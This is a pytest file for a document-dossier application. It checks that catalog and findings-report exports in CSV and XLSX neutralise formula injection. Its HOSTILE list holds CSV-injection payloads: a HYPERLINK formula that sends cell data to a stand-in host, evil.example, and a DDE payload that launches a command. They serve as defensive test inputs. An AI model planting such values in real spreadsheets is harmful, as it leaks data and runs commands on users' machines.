"""Exports never carry live formulas (OWASP CSV injection): values that begin
with =, +, -, @, a tab or CR are neutralised in CSV and stored as text in XLSX,
through the 材料目录 and the regulation-check report as a user opens them."""

import csv
import io

import openpyxl
import pytest

from dossiers.documents import catalog_csv, catalog_xlsx
from dossiers.documents.findings_report import findings_csv
from dossiers.findings import Finding
from dossiers.models import Volume
from dossiers.spreadsheets import csv_bytes, csv_cell, xlsx_append
from tests.dossiers.documents.builders import (
    Store,
    agency_case,
    dossier_create,
    entries_add,
    pdf_add,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_dossier():
    store = Store()
    case = agency_case()
    materials = [pdf_add(case, store, 1, title) for title in HOSTILE]
    dossier = dossier_create(case)
    entries_add(dossier, [(material, Volume.MAIN) for material in materials])
    return dossier


def test_catalog_csv_neutralises_every_formula_like_title(hostile_dossier):
    text = catalog_csv(hostile_dossier).decode("utf-8-sig")
    titles = [row[3] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert titles == ["'" + title for title in HOSTILE]


def test_catalog_xlsx_stores_titles_as_text_never_as_formulas(hostile_dossier):
    book = openpyxl.load_workbook(io.BytesIO(catalog_xlsx(hostile_dossier)))
    cells = [row[3] for row in book.active.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)
    # The page and sequence columns stay numbers a user can sum.
    assert book.active["A2"].data_type == "n"


def test_findings_report_neutralises_messages_and_paths(hostile_dossier):
    finding = Finding(
        code="x", severity="warning", message="=1+1", path="@evil.pdf", article="-"
    )
    text = findings_csv(hostile_dossier, [finding]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[2]
    assert row[3:] == ["'@evil.pdf", "'=1+1", "'-"]


def test_harmless_values_are_written_as_they_are():
    assert csv_cell("珠应急罚〔2025〕11号") == "珠应急罚〔2025〕11号"
    assert csv_cell(12) == 12
    assert csv_bytes([["a", 1, None]]) == "\ufeffa,1,\r\n".encode()
    sheet = openpyxl.Workbook().active
    xlsx_append(sheet, ["1-2", 3, None])
    assert [cell.value for cell in sheet[1]] == ["1-2", 3, None]
    assert sheet["A1"].data_type == "s"
    assert not sheet["A1"].quotePrefix
